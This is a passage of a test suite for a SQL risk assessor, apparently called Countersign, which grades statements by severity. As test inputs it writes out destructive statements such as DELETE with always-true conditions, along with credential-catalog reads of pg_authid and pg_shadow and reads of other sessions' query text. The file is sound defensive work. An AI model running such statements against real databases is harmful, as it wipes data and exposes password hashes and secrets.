    ["DELETE FROM t WHERE 1 BETWEEN 0 AND 2", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE 5 NOT BETWEEN 0 AND 2", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE 1 BETWEEN SYMMETRIC 2 AND 0", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE (SELECT true)", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE CASE WHEN true THEN true END", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE CASE WHEN a > 1 THEN true ELSE true END", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE CASE 1 WHEN 1 THEN true ELSE false END", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE coalesce(true, false)", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE coalesce(NULL, 't')::bool", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE 1 = ANY('{1}')", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE 2 = ANY(ARRAY[1, 2])", "critical", ["sql.delete_without_where"]],
    ["UPDATE t SET a = 0 WHERE 1 < ALL('{2,3}')", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 0 WHERE 1::bool AND 'x' IS NOT NULL", "critical", ["sql.update_without_where"]],
  ]);
});

describe("a WHERE clause that reads no column matches every row or none: fail closed", () => {
  table([
    ["DELETE FROM t WHERE random() < 0.5", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE now() > '2026-01-01'", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE EXISTS (SELECT 1 FROM u)", "critical", ["sql.delete_without_where"]],
    ["UPDATE t SET a = 1 WHERE current_user = 'app'", "critical", ["sql.update_without_where"]],
    // Provably false, a row-reading condition, or a cursor's current row: not every row.
    ["DELETE FROM t WHERE 0::bool", "medium", ["sql.write"]],
    ["DELETE FROM t WHERE 1 BETWEEN 2 AND 3", "medium", ["sql.write"]],
    ["DELETE FROM t WHERE NULL IS NOT NULL", "medium", ["sql.write"]],
    ["DELETE FROM t WHERE CASE WHEN true THEN false END", "medium", ["sql.write"]],
    ["DELETE FROM t WHERE a = ANY('{1}')", "medium", ["sql.write"]],
    ["DELETE FROM t WHERE 3 = ANY('{1,2}') OR id = 4", "medium", ["sql.write"]],
    ["DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.t_id = t.id)", "medium", ["sql.write"]],
    ["DELETE FROM t WHERE CURRENT OF c", "medium", ["sql.write"]],
  ]);

  it("says why a clause without a column counts as every row", () => {
    expect(assessSql("DELETE FROM t WHERE random() < 0.5").findings[0]?.message).toBe(
      "Deletes every row of `public.t` (its WHERE clause reads no column, so it matches every row or none)",
    );
  });
});

describe("targets follow SET search_path within the batch", () => {
  it.each([
    ["SET search_path TO billing; DELETE FROM customers WHERE id = 5", ["billing.customers"]],
    ["SET search_path = 'billing'; SELECT * FROM invoices", ["billing.invoices"]],
    ["SET LOCAL search_path TO \"$user\", billing; TRUNCATE invoices", ["billing.invoices"]],
    ["SELECT set_config('search_path', 'billing', false); DROP TABLE invoices", ["billing.invoices"]],
    ["SET search_path TO billing, public; DELETE FROM customers", ["billing.customers", "public.customers"]],
    ["SET search_path TO billing; RESET search_path; DELETE FROM customers", ["public.customers"]],
    ["SET search_path TO billing; SET search_path TO DEFAULT; DELETE FROM customers", ["public.customers"]],
    ["SET search_path TO billing; SELECT * FROM pg_class, audit.log", ["pg_catalog.pg_class", "audit.log"]],
    ["DELETE FROM customers WHERE id = 1; SET search_path TO billing", ["public.customers"]],
  ])("%s", (sql, targets) => {
    expect(assessSql(sql).targets).toEqual(targets);
  });

  it("names the schema in the finding and lists every candidate schema on it", () => {
    const risk = assessSql("SET search_path TO billing, public; DELETE FROM customers");
    expect(risk.findings[0]).toMatchObject({
      id: "sql.delete_without_where",
      message: "Deletes every row of `billing.customers`",
      targets: ["billing.customers", "public.customers"],
    });
  });

  it("fails closed on a search_path computed at run time", () => {
    const risk = assessSql("SELECT set_config('search_path', current_setting('app.schema'), false); DELETE FROM customers WHERE id = 5");
    expect(ids(risk)).toEqual(["sql.opaque_code", "sql.write"]);
    expect(risk.level).toBe("high");
    expect(risk.targets).toEqual(["*.customers"]);
  });

  it("does not carry a search_path from one assessment to the next", () => {
    assessSql("SET search_path TO billing");
    expect(assessSql("DELETE FROM customers WHERE id = 5").targets).toEqual(["public.customers"]);
  });
});

describe("a function's own SET search_path applies to its body only", () => {
  it.each([
    ["CREATE FUNCTION f() RETURNS void LANGUAGE sql SET search_path = billing AS 'DELETE FROM invoices'", ["public.f", "billing.invoices"]],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE sql SET search_path = billing AS 'SELECT 1'; DELETE FROM invoices", ["public.f", "public.invoices"]],
    ["CREATE PROCEDURE p() LANGUAGE plpgsql SET search_path TO audit AS $$ BEGIN TRUNCATE log; END $$", ["public.p", "audit.log"]],
  ])("%s", (sql, targets) => {
    expect(assessSql(sql).targets).toEqual(targets);
  });
});

describe("a call to a function Countersign does not know is high, wherever it is", () => {
  table([
    ["SELECT public.drop_all_tables()", "high", ["sql.unknown_function"]],
    ["SELECT * FROM delete_rows_returning()", "high", ["sql.unknown_function"]],
    ["SELECT id FROM customers WHERE wipe(id)", "high", ["sql.unknown_function"]],
    ["SELECT count(*) FROM orders GROUP BY bucket(created_at)", "high", ["sql.unknown_function"]],
    ["SELECT lower(name) FROM customers ORDER BY rank_me(id)", "high", ["sql.unknown_function"]],
    ["CREATE TABLE scratch (id int DEFAULT purge_old_rows())", "high", ["sql.schema_change", "sql.unknown_function"]],
    ["SELECT public.lower(name) FROM customers", "high", ["sql.unknown_function"]],
    ["SELECT nextval('orders_id_seq')", "high", ["sql.unknown_function"]],
    ["SET search_path TO tools, pg_catalog; SELECT lower(name) FROM customers", "high", ["sql.unknown_function"]],
    ["SET search_path TO pg_catalog, tools; SELECT lower(name) FROM tools.customers", "low", []],
    ["SET search_path TO tools, pg_catalog; RESET search_path; SELECT lower(name) FROM customers", "low", []],
    ["SELECT pg_terminate_backend(42)", "high", ["sql.terminate_backend"]],
  ]);

  it("names the function as written in a sentence a reviewer understands", () => {
    const risk = assessSql("SELECT public.drop_all_tables()");
    expect(risk.findings.map((f) => f.message)).toEqual(["Calls `public.drop_all_tables()`, a function Countersign does not know: its effect cannot be seen"]);
  });

  table([
    ["SELECT now(), count(*), lower(name), coalesce(nickname, name) FROM customers GROUP BY name, nickname", "low", []],
    ["SELECT date_trunc('day', created_at), to_char(created_at, 'YYYY'), extract(epoch FROM created_at) FROM orders", "low", []],
    ["SELECT jsonb_build_object('ids', array_agg(id)) FROM orders", "low", []],
    ["SELECT * FROM generate_series(1, 10) AS n", "low", []],
    ["SELECT pg_catalog.upper(name), PG_CATALOG.LENGTH(name) FROM customers", "low", []],
    ["SELECT substring(email from 2 for 3), trim(both from name), overlay(name placing 'x' from 1) FROM customers", "low", []],
    ["SELECT created_at AT TIME ZONE 'UTC', name COLLATE \"C\" FROM customers", "low", []],
    // Waiting changes nothing: a statement timeout, not approval, is the answer to a long sleep.
    ["SELECT pg_sleep(5)", "low", []],
  ]);
});

describe("set_config is judged only when it is pg_catalog's and names a constant setting", () => {
  table([
    ["SELECT public.set_config('x', 'y', false)", "high", ["sql.unknown_function"]],
    ["SELECT tools.set_config('application_name', 'x', false)", "high", ["sql.unknown_function"]],
    ["SET search_path TO tools, pg_catalog; SELECT set_config('application_name', 'x', false)", "high", ["sql.unknown_function"]],
    ["SELECT set_config(lower('SESSION_REPLICATION_ROLE'), 'replica', false)", "high", ["sql.replication_role"]],
    ["SELECT set_config(concat('ro', 'le'), 'postgres', false)", "high", ["sql.replication_role"]],
    ["SELECT set_config(name, 'replica', false) FROM settings_to_apply", "high", ["sql.replication_role"]],
    ["SELECT set_config('application_name', 'nightly-report', false)", "low", []],
    ["SELECT pg_catalog.set_config('application_name', 'nightly-report', false)", "low", []],
    ["SELECT pg_catalog.set_config('session_replication_role', 'replica', false)", "high", ["sql.replication_role"]],
  ]);
});

describe("an operator that is not a built-in calls a function Countersign cannot see", () => {
  table([
    ["SELECT 1 OPERATOR(public.===) 2", "high", ["sql.unknown_function"]],
    ["SELECT * FROM t WHERE a OPERATOR(tools.=) b", "high", ["sql.unknown_function"]],
    ["SELECT * FROM t WHERE a === b", "high", ["sql.unknown_function"]],
    ["SELECT * FROM t WHERE id = ANY(ARRAY[1]) OR a !@# b", "high", ["sql.unknown_function"]],
    ["SELECT 1 OPERATOR(pg_catalog.+) 2", "low", []],
    ["SELECT * FROM articles WHERE tsv @@ !! to_tsquery('drop') AND name ~>=~ 'm' AND |/ 25 > 4", "low", []],
    ["SET search_path TO tools, pg_catalog; SELECT * FROM t WHERE a = 1", "high", ["sql.unknown_function"]],
    ["SELECT * FROM t WHERE a = 1 AND b <> 2 AND c >= 3 AND name || 'x' ~~ 'y%' AND tags @> ARRAY['a'] AND doc ->> 'k' IS NOT NULL", "low", []],
    ["SELECT * FROM t WHERE a IS DISTINCT FROM b AND c LIKE 'x%' AND d BETWEEN 1 AND 2 AND e IN (1, 2) AND NULLIF(f, 0) > 1", "low", []],
  ]);
});

describe("switching off the executor's timeouts is medium", () => {
  table([
    ["SET statement_timeout = 0; SELECT * FROM orders", "medium", ["sql.disable_timeout"]],
    ["SET statement_timeout TO '0'", "medium", ["sql.disable_timeout"]],
    ["SET LOCAL statement_timeout = '0s'", "medium", ["sql.disable_timeout"]],
    ["SET idle_in_transaction_session_timeout = 0", "medium", ["sql.disable_timeout"]],
    ["SELECT set_config('statement_timeout', '0', false)", "medium", ["sql.disable_timeout"]],
    ["SET statement_timeout = 10", "low", []],
    ["SET statement_timeout = '30s'", "low", []],
    ["SET idle_in_transaction_session_timeout = '1min'", "low", []],
  ]);
});

describe("reading credentials is high, whichever columns are named", () => {
  table([
    ["SELECT rolname, rolpassword FROM pg_authid", "high", ["sql.read_credentials"]],
    ["SELECT count(*) FROM pg_catalog.pg_authid", "high", ["sql.read_credentials"]],
    ["SELECT * FROM pg_shadow", "high", ["sql.read_credentials"]],
    ["SELECT umoptions FROM pg_user_mapping", "high", ["sql.read_credentials"]],
    ["SELECT srvname, umoptions FROM pg_user_mappings", "high", ["sql.read_credentials"]],
    ["SELECT subname, subconninfo FROM pg_subscription", "high", ["sql.read_credentials"]],
    ["SELECT u.usename FROM pg_user u JOIN pg_shadow s USING (usesysid)", "high", ["sql.read_credentials"]],
    ["CREATE VIEW hashes AS SELECT rolpassword FROM pg_authid", "high", ["sql.read_credentials", "sql.schema_change"]],
    // A look-alike in another schema fails closed, as dangerous functions do.
    ["SELECT * FROM audit.pg_authid", "high", ["sql.read_credentials"]],
    // The masked views, and who is a member of which role, stay low.
    ["SELECT rolname, rolcanlogin FROM pg_roles", "low", []],
    ["SELECT * FROM pg_roles", "low", []],
    ["SELECT usename, passwd FROM pg_user", "low", []],
    ["SELECT roleid, member FROM pg_auth_members", "low", []],
    ["SELECT * FROM pg_stat_subscription", "low", []],
    ["WITH pg_authid AS (SELECT 1 AS x) SELECT * FROM pg_authid", "low", []],
    ["EXPLAIN SELECT * FROM pg_authid", "low", []],
  ]);

  it("says what the catalog holds", () => {
    expect(assessSql("SELECT rolpassword FROM pg_authid").findings[0]?.message).toBe("Reads `pg_catalog.pg_authid`, which holds the password hash of every role");
  });
});

describe("reading other sessions' query text is high; counting sessions is not", () => {
  table([
    ["SELECT pid, query FROM pg_stat_activity", "high", ["sql.read_other_sessions"]],
    ["SELECT * FROM pg_stat_activity", "high", ["sql.read_other_sessions"]],
    ["TABLE pg_stat_activity", "high", ["sql.read_other_sessions"]],
    ["SELECT a.* FROM pg_stat_activity a JOIN pg_locks l USING (pid)", "high", ["sql.read_other_sessions"]],
    ["SELECT * FROM pg_locks JOIN pg_stat_activity USING (pid)", "high", ["sql.read_other_sessions"]],
    ["SELECT a FROM pg_stat_activity a", "high", ["sql.read_other_sessions"]],
    ["SELECT to_json(s) FROM pg_catalog.pg_stat_activity s", "high", ["sql.read_other_sessions"]],
    ["SELECT row_to_json(pg_stat_activity) FROM pg_stat_activity", "high", ["sql.read_other_sessions"]],
    ["SELECT q FROM pg_stat_activity AS a(d, o, p, q)", "high", ["sql.read_other_sessions"]],
    ["SELECT count(*) FROM pg_stat_activity WHERE query ILIKE '%password%'", "high", ["sql.read_other_sessions"]],
    ["SELECT 1 FROM (SELECT * FROM pg_stat_activity) x", "high", ["sql.read_other_sessions"]],
    ["SELECT pid FROM pg_stat_activity UNION ALL SELECT 1 UNION ALL (SELECT * FROM pg_stat_activity)", "high", ["sql.read_other_sessions"]],
    ["COPY pg_stat_activity TO STDOUT", "high", ["sql.read_other_sessions"]],
    ["COPY (SELECT query FROM pg_stat_activity) TO STDOUT", "high", ["sql.read_other_sessions"]],
    ["SELECT query, calls FROM pg_stat_statements ORDER BY calls DESC", "high", ["sql.read_other_sessions"]],
    ["SELECT * FROM monitoring.pg_stat_statements", "high", ["sql.read_other_sessions"]],
    ["SELECT bucket, calls FROM pg_stat_monitor", "high", ["sql.read_other_sessions"]],
    ["CREATE FUNCTION peek() RETURNS text LANGUAGE sql AS 'SELECT query FROM pg_stat_activity LIMIT 1'", "high", ["sql.read_other_sessions", "sql.schema_change"]],
    ["SELECT count(*) FROM pg_stat_activity", "low", []],
    ["SELECT datname, state, count(*) FROM pg_stat_activity GROUP BY 1, 2", "low", []],
    ["SELECT pid, usename, wait_event, now() - query_start AS running FROM pg_stat_activity WHERE state = 'active'", "low", []],
    ["SELECT queryid, calls, total_exec_time FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT 10", "low", []],
    ["COPY pg_stat_activity (pid, state) TO STDOUT", "low", []],
    ["SELECT * FROM (SELECT pid, state FROM pg_stat_activity) s", "low", []],
    ["SELECT * FROM orders WHERE id IN (SELECT 1 FROM pg_stat_activity)", "low", []],
    ["SELECT pid FROM pg_stat_activity UNION SELECT * FROM orders", "low", []],
    ["EXPLAIN SELECT query FROM pg_stat_activity", "low", []],
    ["SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)", "high", ["sql.terminate_backend"]],
  ]);

  it("says what the view shows", () => {
    expect(assessSql("SELECT query FROM pg_stat_activity").findings[0]?.message).toBe(
      "Reads other sessions' query text from `pg_catalog.pg_stat_activity`, which shows the query each session is running; its literals can be passwords, tokens or other users' data",
    );
  });
});

describe("settings that stop a database, a role or the server from taking writes or connections are high", () => {
  table([
    ["ALTER DATABASE app SET default_transaction_read_only = on", "high", ["sql.block_writes", "sql.schema_change"]],
    ["ALTER DATABASE app SET default_transaction_read_only TO true", "high", ["sql.block_writes", "sql.schema_change"]],
    ["ALTER ROLE app SET default_transaction_read_only = on", "high", ["sql.block_writes", "sql.role_change"]],
    ["ALTER ROLE app IN DATABASE prod SET default_transaction_read_only = 'yes'", "high", ["sql.block_writes", "sql.role_change"]],
    ["ALTER SYSTEM SET default_transaction_read_only = on", "high", ["sql.alter_system", "sql.block_writes"]],
    ["ALTER DATABASE app CONNECTION LIMIT 0", "high", ["sql.block_connections"]],
    ["ALTER DATABASE app WITH CONNECTION LIMIT = 5", "high", ["sql.block_connections"]],
    ["ALTER DATABASE app WITH ALLOW_CONNECTIONS false", "high", ["sql.block_connections"]],
    ["ALTER DATABASE app ALLOW_CONNECTIONS 0", "high", ["sql.block_connections"]],
    ["ALTER DATABASE app IS_TEMPLATE true", "high", ["sql.grant"]],
    ["ALTER ROLE app NOLOGIN", "high", ["sql.block_connections", "sql.role_change"]],
    ["ALTER USER app WITH CONNECTION LIMIT 0", "high", ["sql.block_connections", "sql.role_change"]],
    ["ALTER ROLE app VALID UNTIL '2000-01-01'", "high", ["sql.block_connections", "sql.role_change"]],
    ["REVOKE CONNECT ON DATABASE prod FROM PUBLIC", "high", ["sql.block_connections", "sql.revoke"]],
    ["REVOKE ALL ON DATABASE prod FROM app", "high", ["sql.block_connections", "sql.revoke"]],
    ["ALTER SYSTEM SET max_connections = 3", "high", ["sql.alter_system", "sql.block_connections"]],
    ["ALTER SYSTEM RESET max_connections", "high", ["sql.alter_system", "sql.block_connections"]],
    ["ALTER SYSTEM SET listen_addresses = 'localhost'", "high", ["sql.alter_system", "sql.block_connections"]],
    // In the session alone, read-only only constrains this operation's own statements.
    ["SET default_transaction_read_only = on", "low", []],
    ["SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "low", []],
    ["BEGIN; SET LOCAL default_transaction_read_only = on; COMMIT", "low", []],
    ["ALTER DATABASE app SET default_transaction_read_only = off", "medium", ["sql.schema_change"]],
    ["ALTER DATABASE app RESET default_transaction_read_only", "medium", ["sql.schema_change"]],
    ["ALTER DATABASE app CONNECTION LIMIT -1", "medium", ["sql.schema_change"]],
    ["ALTER DATABASE app ALLOW_CONNECTIONS true", "medium", ["sql.schema_change"]],
    ["ALTER DATABASE app IS_TEMPLATE false", "medium", ["sql.schema_change"]],
    ["ALTER DATABASE app SET TABLESPACE fast", "medium", ["sql.schema_change"]],
    ["ALTER ROLE app LOGIN", "high", ["sql.role_change"]],
    ["ALTER ROLE app VALID UNTIL 'infinity'", "high", ["sql.role_change"]],
    ["REVOKE TEMPORARY ON DATABASE prod FROM app", "high", ["sql.revoke"]],
    ["GRANT CONNECT ON DATABASE prod TO app", "high", ["sql.grant"]],
  ]);

  it.each([
    ["ALTER DATABASE app CONNECTION LIMIT 0", "Sets the connection limit of database `app` to 0, refusing every new connection"],
    ["ALTER DATABASE app SET default_transaction_read_only = on", "Makes transactions read-only by default for database `app` (default_transaction_read_only = `on`): every write, the application's included, fails until it is reverted"],
    ["REVOKE CONNECT ON DATABASE prod FROM PUBLIC", "Revokes the right to connect to database `prod` from `PUBLIC`: their new connections are refused unless another grant still allows them"],
  ])("%s says %s", (sql, message) => {
    expect(assessSql(sql).findings.map((f) => f.message)).toContain(message);
  });
});
